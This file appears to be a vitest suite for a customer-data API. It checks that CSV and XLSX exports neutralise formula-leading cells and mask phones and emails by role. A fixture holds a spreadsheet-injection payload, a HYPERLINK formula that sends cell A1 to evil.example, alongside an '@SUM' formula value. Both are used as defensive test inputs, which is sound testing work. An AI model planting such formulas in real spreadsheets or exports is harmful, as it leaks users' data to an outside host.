import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../src/db/database.ts';
import { type Api, startApi, workspaceWithKeys } from './api-harness.ts';
import { dropTestSchemas, storesUnderTest } from './stores.ts';

afterAll(dropTestSchemas);

const CITY = '=HYPERLINK("http://evil.example/?x="&A1,"杭州")';
const NAME = '@SUM(1+1)';

/** Rows of a CSV answer as arrays of cells, header first. */
const parseCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });

describe.each(storesUnderTest())('export and profile safety ($name)', (store) => {
  let database: Database;
  let api: Api;
  let w: Awaited<ReturnType<typeof workspaceWithKeys>>;
  let customerId: number;

  beforeAll(async () => {
    database = await store.open();
    w = await workspaceWithKeys(database, 'exports');
    api = await startApi(database);
    const key = w.keys.admin;
    const customer = await api.call('POST', '/api/v1/customers', {
      key,
      body: {
        external_id: 'E-1',
        phone: '13912345678',
        email: 'li.lei@example.com',
        name: NAME,
        city: CITY,
        tags: ['vip'],
      },
    });
    expect(customer.status).toBe(200);
    customerId = customer.body.id;
    const order = {
      order_id: 'E-O1',
      customer_id: 'E-1',
      ordered_at: '2024-05-01T10:00:00+08:00',
      amount: 12900,
    };
    expect((await api.call('POST', '/api/v1/orders', { key, body: { items: [order] } })).status).toBe(200);
    const segment = await api.call('POST', '/api/v1/segments', {
      key,
      body: { name: 'vips', condition: { tag: 'vip' } },
    });
    expect(segment.status).toBe(201);
    const event = {
      type: 'form_submitted',
      customer_id: 'E-1',
      occurred_at: '2024-05-02T10:00:00+08:00',
      properties: {
        手机号: '13812345678',
        Email: 'han.meimei@example.com',
        note: 'call +86 13700001111 or mail x.y@example.org',
        order_no: '20240501123456789',
        amount: -5,
      },
    };
    expect((await api.call('POST', '/api/v1/events', { key, body: { items: [event] } })).status).toBe(200);
  });

  afterAll(async () => {
    await api?.close();
    await database?.close();
  });

  it('neutralises formula-leading cells in the segment CSV export, the city of a masked export included', async () => {
    for (const role of ['operator', 'admin'] as const) {
      const reply = await api.call('GET', '/api/v1/segments/vips/export?format=csv', { key: w.keys[role] });
      expect(reply.status).toBe(200);
      const [header, row] = parseCsv(reply.text);
      const cell = (name: string) => row![header!.indexOf(name)];
      expect(cell('city')).toBe(`'${CITY}`);
      expect(cell('net_total')).toBe('12900');
      expect(cell('order_count')).toBe('1');
      if (role === 'operator') {
        expect(cell('name')).toBe("'@***");
        expect(cell('phone')).toBe('139****5678');
        expect(cell('email')).toBe('l***@example.com');
        expect(reply.text).not.toContain('13912345678');
        expect(reply.text).not.toContain('li.lei');
      } else {
        expect(cell('name')).toBe(`'${NAME}`);
        expect(cell('phone')).toBe('13912345678');
      }
    }
  });

  it('neutralises formula-leading cells in the XLSX export and keeps numbers as numbers', async () => {
    const response = await fetch(`${api.base}/api/v1/segments/vips/export?format=xlsx`, {
      headers: { authorization: `Bearer ${w.keys.operator}` },
    });
    expect(response.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await response.arrayBuffer());
    const sheet = book.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const row = (sheet.getRow(2).values as unknown[]).slice(1);
    expect(row[header.indexOf('city')]).toBe(`'${CITY}`);
    expect(row[header.indexOf('name')]).toBe("'@***");
    expect(row[header.indexOf('phone')]).toBe('139****5678');
    expect(row[header.indexOf('net_total')]).toBe(12900);
  });

  it('neutralises and masks the customer list export for a role without personal data', async () => {
    const reply = await api.call('GET', '/api/v1/customers/export', { key: w.keys.operator });
    expect(reply.status).toBe(200);
    const [header, row] = parseCsv(reply.text);
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('city')).toBe(`'${CITY}`);
    expect(cell('name')).toBe("'@***");
    expect(cell('phone')).toBe('139****5678');
    expect(cell('email')).toBe('l***@example.com');
    expect(cell('net_total')).toBe('12900');
  });

  it('masks phones and emails inside event properties of the profile for viewers and operators, not for admins', async () => {
    for (const role of ['viewer', 'operator'] as const) {
      const profile = await api.call('GET', `/api/v1/customers/${customerId}`, { key: w.keys[role] });
      expect(profile.status).toBe(200);
      const properties = profile.body.events.find(
        (e: { type: string }) => e.type === 'form_submitted',
      ).properties;
      expect(properties).toEqual({
        手机号: '138****5678',
        Email: 'h***@example.com',
        note: 'call +86137****1111 or mail x***@example.org',
        order_no: '20240501123456789',
        amount: -5,
      });
      expect(profile.text).not.toContain('13812345678');
      expect(profile.text).not.toContain('han.meimei');
    }
    const open = await api.call('GET', `/api/v1/customers/${customerId}`, { key: w.keys.admin });
    const properties = open.body.events.find((e: { type: string }) => e.type === 'form_submitted').properties;
    expect(properties.手机号).toBe('13812345678');
    expect(properties.note).toBe('call +86 13700001111 or mail x.y@example.org');
  });
});
